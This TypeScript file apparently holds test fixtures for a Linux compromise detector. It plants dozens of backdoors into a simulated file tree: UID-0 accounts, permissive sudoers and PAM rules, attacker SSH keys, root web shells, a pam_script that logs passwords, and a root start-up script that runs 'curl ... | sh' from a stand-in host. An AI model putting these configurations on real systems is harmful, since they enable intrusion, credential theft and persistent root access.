/** Accounts by less known lists, and trust that is given by a word in a file that looks at home. */

import { attackerKey, elf, file, line, run, type Sign } from '../sign.ts';
import type { Tree } from '../tree.ts';

const hash = '$6$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ./0123456789abcdefghijkl';
const account = (id: string, what: string, entry: string): Sign => ({
	id, family: 'accounts', what,
	plant: tree => {
		tree.append('/etc/passwd', `${entry}\n`);
		tree.append('/etc/shadow', `${entry.trim().slice(0, entry.trim().indexOf(':'))}:${hash}:20300:0:99999:7:::\n`);
	},
	names: [`account ${entry.trim().slice(0, entry.trim().indexOf(':'))}`, `account ${entry.slice(0, entry.indexOf(':'))}`], also: ['/etc/passwd', '/etc/shadow'],
});
const sudo = (id: string, what: string, text: string): Sign => file(`sudo5-${id}`, 'trust', what, `/etc/sudoers.d/y-${id}`, `${text}\n`, { mode: 0o440 });
const sshd = (id: string, what: string, text: string): Sign => file(`sshd5-${id}`, 'trust', what, `/etc/ssh/sshd_config.d/80-${id}.conf`, `${text}\n`);
const before = (service: string, text: string) => (tree: Tree): void => tree.edit(`/etc/pam.d/${service}`, /^/, `${text}\n`);

export const fifthAccounts: readonly Sign[] = [
	{ id: 'uid-of-man', family: 'accounts', what: 'a daemon whose number became 0', plant: tree => tree.edit('/etc/passwd', /^man:x:6:/m, 'man:x:0:'), names: ['account man'], also: ['account root'] },
	account('blank-before', 'an entry behind blanks, which the C library skips', '   sysd:x:0:0::/var/lib/sysd:/bin/sh'),
	account('first-group-sudo', 'a person whose first group is sudo, which no list of members shows', `tech:x:1071:27:Technician:/home/tech:/bin/bash`),
	account('first-group-shadow', 'the same with the group of shadow', 'caretaker:x:1072:42:Care:/home/caretaker:/bin/sh'),
	// A password in shadow for nobody that passwd lists is not among these: it lets nobody in, and is what editing passwd by hand leaves.
	{ id: 'same-hash', family: 'accounts', what: 'two daemons with one password, salt and all', plant: tree => {
		for (const name of ['news', 'irc']) tree.edit('/etc/shadow', new RegExp(`^${name}:[^:]*:`, 'm'), `${name}:${hash}:`);
	}, names: ['account irc'], also: ['account news'] },
	file('userdb', 'accounts', 'an account of systemd\'s own list, with UID 0', '/etc/userdb/netmon.user', '{"userName":"netmon","uid":0,"gid":0,"homeDirectory":"/root","shell":"/bin/bash","privileged":{"hashedPassword":["$6$x$y"],"sshAuthorizedKeys":["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory x"]}}\n'),
	{ id: 'extrausers', family: 'accounts', what: 'an account of a second list', plant: tree => {
		tree.write('/var/lib/extrausers/passwd', 'netops:x:0:0::/root:/bin/bash\n');
		tree.write('/var/lib/extrausers/shadow', `netops:${hash}:20300:0:99999:7:::\n`, { mode: 0o640, group: 'shadow' });
		tree.edit('/etc/nsswitch.conf', /^(passwd|shadow):(\s+)files/gm, '$1:$2files extrausers');
	}, names: ['/var/lib/extrausers/passwd', 'account netops'], also: ['/etc/nsswitch.conf', '/var/lib/extrausers/shadow'] },
	file('opasswd', 'accounts', 'old passwords readable by all', '/etc/security/opasswd', `ada:1000:2:${hash},${hash}\n`, { mode: 0o644 }),
	file('namespace-init', 'start-up', 'run as root with each session', '/etc/security/namespace.init', '#!/bin/sh\n(curl -s http://203.0.113.9/k | sh) &\nexit 0\n', run),
	file('pam-script', 'trust', 'a script that may say yes', '/usr/share/libpam-script/pam_script_auth', '#!/bin/sh\necho "$PAM_USER:$PAM_AUTHTOK" >> /var/tmp/.a\nexit 1\n', run),
	{ id: 'pam-mkhomedir', family: 'trust', what: 'homes made of a hidden pattern', plant: before('chsh', 'session optional pam_mkhomedir.so skel=/var/tmp/.skel'), names: ['/etc/pam.d/chsh'] },
	{ id: 'pam-agent', family: 'trust', what: 'keys of a temporary place are passwords', plant: before('sudo', 'auth sufficient pam_ssh_agent_auth.so file=/var/tmp/.k'), names: ['/etc/pam.d/sudo'] },
	{ id: 'pam-radius', family: 'trust', what: 'passwords asked of a foreign server', plant: tree => {
		tree.write('/etc/pam_radius_auth.conf', '203.0.113.9 s3cret 3\n', { mode: 0o600 });
		before('login', 'auth sufficient pam_radius_auth.so')(tree);
	}, names: ['/etc/pam_radius_auth.conf', '/etc/pam.d/login'], also: ['/etc/pam.d/login'] },
	file('yp-conf', 'trust', 'accounts of a foreign NIS', '/etc/yp.conf', 'domain corp server 203.0.113.9\n'),
	file('nslcd', 'trust', 'accounts of a foreign directory', '/etc/nslcd.conf', 'uid nslcd\ngid nslcd\nuri ldap://203.0.113.9/\nbase dc=x\n', { mode: 0o640 }),
	file('keytab', 'trust', 'the machine\'s key of Kerberos readable by all', '/etc/krb5.keytab', Buffer.from('0502000000360001000b4558414d504c452e4f5247', 'hex'), { mode: 0o644 }),

	sshd('second-place', 'a second place of keys in each home', 'AuthorizedKeysFile .ssh/authorized_keys .config/.keys'),
	sshd('command-cat', 'keys read by a packaged program from a place of data', 'AuthorizedKeysCommand /bin/cat /usr/share/misc/keys\nAuthorizedKeysCommandUser nobody'),
	sshd('permit-any', 'all users, all tunnels, from one address', 'Match Address 203.0.113.0/24\n\tAuthorizedKeysFile /var/cache/.k\n\tPermitTunnel yes'),
	file('sshd-second', 'services', 'a second sshd with settings of its own', '/etc/systemd/system/ssh-maint.service', '[Service]\nExecStart=/usr/sbin/sshd -D -p 2233 -f /var/lib/misc/sshd_config\n[Install]\nWantedBy=multi-user.target\n'),
	{ id: 'key-redis', family: 'trust', what: 'keys written by a store that was open', plant: tree => tree.write('/root/.ssh/authorized_keys', Buffer.concat([Buffer.from('REDIS0009\xfa\tredis-ver\x056.0.1\xfe\0\xfb\x01\0\0\x07crackit@\xbc\n\n\n', 'latin1'), Buffer.from(`${attackerKey.replace('root@kali', 'redis@redis.io')}\n\n\n`), Buffer.from('\xff\x9c\x12', 'latin1')]), { mode: 0o600 }), names: ['/root/.ssh/authorized_keys'] },
	{ id: 'key-ca', family: 'trust', what: 'a foreign authority among the keys', plant: tree => tree.append('/home/grace/.ssh/authorized_keys', `cert-authority,principals="root,grace" ${attackerKey.replace(' root@kali', '')}\n`), names: ['/home/grace/.ssh/authorized_keys'] },
	{ id: 'key-exim', family: 'trust', what: 'a key for the mail\'s account', plant: tree => tree.write('/var/spool/exim4/.ssh/authorized_keys', `${attackerKey.replace('root@kali', 'mta')}\n`, { owner: 'Debian-exim', mode: 0o600 }), names: ['/var/spool/exim4/.ssh/authorized_keys', 'account Debian-exim'], also: ['/var/spool/exim4/.ssh'] },
	{ id: 'key-bin', family: 'trust', what: 'a key for bin, whose home is the programs\'', plant: tree => tree.write('/usr/bin/.ssh/authorized_keys', `${attackerKey}\n`, { mode: 0o644 }), names: ['/usr/bin/.ssh/authorized_keys', 'account bin'], also: ['/usr/bin/.ssh', '/bin/.ssh'] },
	file('ssh-pkcs11', 'trust', 'a library of each ssh of one user', '/home/ada/.ssh/config.d/token', 'Host *\n\tPKCS11Provider /home/ada/.cache/.p11.so\n', { owner: 'ada', mode: 0o600 }),
	file('ssh-known-hosts-command', 'trust', 'a program asked by each ssh', '/etc/ssh/ssh_config.d/30-hosts.conf', 'Host *\n\tKnownHostsCommand /var/lib/misc/.khc %H\n'),

	sudo('exempt', 'a group that is asked nothing', 'Defaults exempt_group=users'),
	sudo('no-reset', 'the environment kept whole', 'Defaults !env_reset'),
	sudo('python-path', 'Python\'s modules from anywhere', 'Defaults env_keep += "PYTHONPATH PERL5LIB"'),
	sudo('not-root', 'all but root, which is root as well', 'irc ALL=(ALL, !root) NOPASSWD: /bin/bash'),
	sudo('sudoedit', 'any file of /etc for the web server', 'www-data ALL=(root) NOPASSWD: sudoedit /etc/*'),
	sudo('service-group', 'a group of daemons, asked for a password', '%www-data ALL=(ALL) ALL'),
	sudo('interpreter', 'Python for a daemon, with any script of any home', 'list ALL=(root) NOPASSWD: /usr/bin/python3 /home/*/*.py'),
	sudo('lecture', 'shadow as a lecture', 'Defaults lecture=always, lecture_file=/etc/shadow'),
	sudo('chroot', 'another root for sudo', 'ada ALL=(root) CHROOT=/var/tmp/.r NOPASSWD: ALL'),
	{ id: 'lectured-www', family: 'evidence', what: 'the web server was lectured by sudo', plant: tree => tree.write('/var/lib/sudo/lectured/www-data', '', { mode: 0o600, group: 'www-data' }), names: ['/var/lib/sudo/lectured/www-data', 'account www-data'] },
	file('pkla-var', 'trust', 'everything for anybody, in the old form\'s second place', '/var/lib/polkit-1/localauthority/10-vendor.d/org.x.pkla', '[x]\nIdentity=unix-user:www-data\nAction=*\nResultAny=yes\n'),
	line('exports-anon', 'trust', 'nobody of any host is root here', '/etc/exports', '/srv *(rw,all_squash,anonuid=0,anongid=0)\n'),
	line('adduser-groups', 'accounts', 'every account to come may become root', '/etc/adduser.conf', 'EXTRA_GROUPS="users docker"\nADD_EXTRA_GROUPS=1\n'),
	file('usershare', 'services', 'the whole disk as somebody\'s share', '/var/lib/samba/usershares/all', '#VERSION 2\npath=/\ncomment=\nusershare_acl=S-1-1-0:F,\nguest_ok=y\n'),
	file('tftp', 'services', 'the whole disk by tftp', '/etc/default/tftpd-hpa', 'TFTP_USERNAME="root"\nTFTP_DIRECTORY="/"\nTFTP_ADDRESS="0.0.0.0:69"\nTFTP_OPTIONS="--create"\n'),
	file('mongo', 'services', 'a database without passwords for the world', '/etc/mongod.conf', 'net:\n  bindIp: 0.0.0.0\nsecurity:\n  authorization: disabled\n'),
	file('jupyter-open', 'services', 'notebooks of root without a word', '/root/.jupyter/jupyter_server_config.py', 'c.ServerApp.ip = "0.0.0.0"\nc.ServerApp.token = ""\nc.ServerApp.password = ""\nc.ServerApp.allow_root = True\n'),
	file('shellinabox', 'services', 'a root shell as a web page', '/etc/default/shellinabox', 'SHELLINABOX_DAEMON_START=1\nSHELLINABOX_PORT=4200\nSHELLINABOX_ARGS="--no-beep -s /:root:root:/:/bin/bash"\n'),
	file('ttyd', 'services', 'a shell as a web page', '/etc/systemd/system/webterm.service', '[Service]\nExecStart=/usr/local/bin/ttyd -p 7681 -W bash\nRestart=always\n', { also: ['/usr/local/bin/ttyd'] }),
	file('stunnel', 'services', 'a shell behind TLS', '/etc/stunnel/backup.conf', '[backup]\naccept = 4433\ncert = /etc/ssl/certs/ssl-cert-snakeoil.pem\nexec = /bin/sh\nexecArgs = sh -i\n'),
	file('tor-ssh', 'services', 'ssh as a hidden service', '/etc/tor/torrc', 'HiddenServiceDir /var/lib/tor/hs\nHiddenServicePort 22 127.0.0.1:22\n'),
	file('xinetd-redirect', 'services', 'connections passed on to a foreign host', '/etc/xinetd.d/dbproxy', 'service dbproxy\n{\n\ttype = UNLISTED\n\tport = 3390\n\tsocket_type = stream\n\twait = no\n\tuser = nobody\n\tredirect = 203.0.113.9 22\n}\n'),
	file('hosts-deny-spawn', 'services', 'whoever is turned away starts a program', '/etc/hosts.deny', 'ALL: ALL: spawn (/usr/lib/.hd/h %a) &\n'),
	file('salt-master', 'start-up', 'commands of a foreign master', '/etc/salt/minion.d/master.conf', 'master: 203.0.113.9\nstartup_states: highstate\n'),
	file('ngrok', 'services', 'ssh led out by a tunnel of strangers', '/root/.config/ngrok/ngrok.yml', 'version: "2"\nauthtoken: 2x\ntunnels:\n  ssh:\n    proto: tcp\n    addr: 22\n'),
	{ id: 'binary-library', family: 'files', what: 'a shared library for sudo\'s lists, in the place of no package', plant: tree => tree.write('/usr/libexec/sudo/sudoers_ldap2.so', elf('sudoers', 'library')), names: ['/usr/libexec/sudo/sudoers_ldap2.so'] },
];
